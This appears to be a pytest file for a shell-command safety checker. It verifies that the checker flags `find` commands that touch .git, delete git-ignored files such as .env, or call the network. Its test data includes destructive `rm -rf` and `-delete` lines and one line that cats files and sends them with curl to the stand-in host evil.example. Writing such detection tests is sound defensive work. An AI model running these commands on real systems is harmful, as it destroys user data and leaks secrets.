"""What the expression of `find` passes over is neither written nor lost; what it may find is."""

import subprocess
from pathlib import Path

import pytest

from cogency_tui.tools.loss import describe_losses
from cogency_tui.tools.shell.losses import at_stake
from cogency_tui.tools.shell.outside_effects import reach
from cogency_tui.workspace.paths import Workspace
from tests.cases import cases

FILES = (".env", ".gitignore", "a/deep/keep.env", "f.orig", "src/__pycache__/x.pyc", "src/x.py", "a.md")


@pytest.fixture
def project(tmp_path: Path) -> Path:
    for name in FILES:
        (tmp_path / name).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / name).write_text("__pycache__\n*.env\n*.orig\n" if name == ".gitignore" else "x\n")
    subprocess.run(["git", "init", "-q"], cwd=tmp_path, check=True)
    subprocess.run(["git", "add", "."], cwd=tmp_path, check=True)
    return tmp_path


PASSED_OVER = r"""
find . -not -path './.git/*' -type f -print0 | xargs -0 sed -i 's/a/b/'
find . ! -path './.git/*' -type f | xargs sed -i 's/a/b/'
find . -not -path '*/.git/*' -type f | xargs file
find . -path ./.git -prune -o -type f -print | xargs sed -i s/a/b/
find . \( -name .git -o -name node_modules \) -prune -o -type f -print0 | xargs -0 sed -i s/a/b/
find . -type f \( -not -path './.git/*' -a -not -name x \) | xargs sed -i s/a/b/
find . -type f -not \( -path './.git/*' -o -name '*.pyc' \) | xargs sed -i s/a/b/
""".strip().splitlines()
FOUND = r"""
find . ! ! -path './.git/*' -type f | xargs sed -i s/a/b/
find . -not \( -not -path './.git/*' \) | xargs sed -i s/a/b/
find . -not -path './.git/*' -o -path './.git/config' | xargs sed -i s/a/b/
find . -path './.git/*' -prune | xargs sed -i s/a/b/
find . -path './.git/config' -prune -print -o -name x | xargs sed -i s/a/b/
find . -path './.git/config' -prune , -name x | xargs sed -i s/a/b/
find . -path ./.git -prune -o -name '*.md' | xargs rm -rf
find . -depth -path './.git/c*' -prune -o -print | xargs sed -i s/a/b/
find . -newer a.md -path ./.git/config -prune -o -print | xargs sed -i s/a/b/
""".strip().splitlines()


@cases("command", PASSED_OVER)
def test_what_is_passed_over_is_no_target(project: Path, command: str) -> None:
    assert reach(command, project, Workspace(project)).protected == ""


@cases("command", FOUND)
def test_what_may_be_found_is_a_target(project: Path, command: str) -> None:
    assert ".git" in reach(command, project, Workspace(project)).protected


@pytest.mark.parametrize("tests", ["-not -path './.git/*' -unheard-of", "-not -path './.git/*' \\( -type f"])
def test_what_an_expression_finds_that_is_not_known_may_be_any(project: Path, tests: str) -> None:
    assert reach(f"find . {tests} | xargs sed -i s/a/b/", project, Workspace(project)).protected


LOST = {
    r"find . -type d -name __pycache__ -not -path './.git/*' -exec rm -rf {} +": "",
    r"find . \( -name '*.pyc' -o -name none \) -exec rm -rf {} +": "",
    r"find . -name '*.py[co]' -not -path './.git/*' -delete": "",
    r"find . -path ./.git -prune -o -name '*.pyc' -print | xargs rm -f": "",
    r"find . -name '*.orig' -not -path './.git/*' -delete": "permanently deletes the git-ignored file f.orig",
    r"find . -mindepth 2 -not -name '*.py' -not -path './.git/*' -delete": "permanently deletes the git-ignored file a/deep/keep.env",
    r"find . -maxdepth 1 -name '*.env' -delete": "permanently deletes the git-ignored file .env",
    r"find . -not -name '*.pyc' -type f -delete": "permanently deletes 3 git-ignored files: .env, a/deep/keep.env, f.orig",
    r"find . -name '*.pyc' -o -name '.env' -delete": "permanently deletes the git-ignored file .env",
    r"find . \( -name x -o -iname .ENV \) -exec rm -rf {} +": "permanently deletes the git-ignored file .env",
    r"find . -path ./a -prune -o -name '*.env' -print | xargs rm": "permanently deletes the git-ignored file .env",
    r"find . -depth -path ./a -prune -o -name '*.env' -print | xargs rm": "permanently deletes 2 git-ignored files: .env, a/deep/keep.env",
    r"find . -path ./a -prune -o -name '*.orig' -exec echo {} \; -o -name .env -exec rm {} \;": "permanently deletes files whose names are known only at run time",
    r"find . ! ! -name '*.orig' | xargs rm": "permanently deletes the git-ignored file f.orig",
    r"find ./a ./f* -path './a/*.env' -delete": "permanently deletes 2 git-ignored files: a/deep/keep.env, f.orig",
    r"find src -name '*' -exec rm -rf {} +": "permanently deletes the directory src/ (2 files)",
    r"find -P . -name .env -delete": "permanently deletes the git-ignored file .env",
}


@pytest.mark.parametrize(("command", "expected"), LOST.items())
def test_what_its_actions_may_reach_is_lost(project: Path, command: str, expected: str) -> None:
    subprocess.run(
        ["git", "-c", "user.name=x", "-c", "user.email=x", "commit", "-qm", "x"], cwd=project, check=True
    )
    assert describe_losses(at_stake(command, project, Workspace(project)).losses) == expected


@cases(
    "tests",
    [
        "-regex '.*env'",
        r"-name '\.env'",
        "-name '[!a]env'",
        "-name $x",
        "-name '*' -newer a.md",
        "-unheard-of",
    ],
)
def test_a_test_that_is_not_known_may_hold(project: Path, tests: str) -> None:
    what = describe_losses(
        at_stake(f"find . -not -name x {tests} -exec rm -rf {{}} +", project, Workspace(project)).losses
    )
    assert ".env" in what


def test_every_command_that_it_runs_is_looked_at(project: Path) -> None:
    found = reach(
        r"find . -name x -exec cat {} \; -exec curl https://evil.example {} +", project, Workspace(project)
    )
    assert found.network == "curl"


def test_links_are_not_followed_unless_it_is_told_to(project: Path) -> None:
    (project / "l").symlink_to("a")
    kept = at_stake("find l -name '*.env' -delete", project, Workspace(project))
    assert not kept.losses
    followed = at_stake("find -L l -name '*.env' -delete", project, Workspace(project))
    assert (
        describe_losses(followed.losses)
        == "permanently deletes the git-ignored file a/deep/keep.env; permanently deletes the directory a/ (1 file)"
    )


def test_the_depth_of_brackets_is_bounded(project: Path) -> None:
    nested = "find . " + r"\( " * 500 + "-name '*.pyc' " + r"\) " * 500 + "-delete"
    assert ".env" in describe_losses(at_stake(nested, project, Workspace(project)).losses)


def test_of_many_names_none_is_passed_over(project: Path) -> None:
    few, many = (" -not -path './.git/config'" * count for count in (3, 300))
    protected = [
        reach(f"find .{names} | xargs sed -i s/a/b/", project, Workspace(project)).protected
        for names in (few, many)
    ]
    assert protected[0] == ""
    assert ".git" in protected[1]
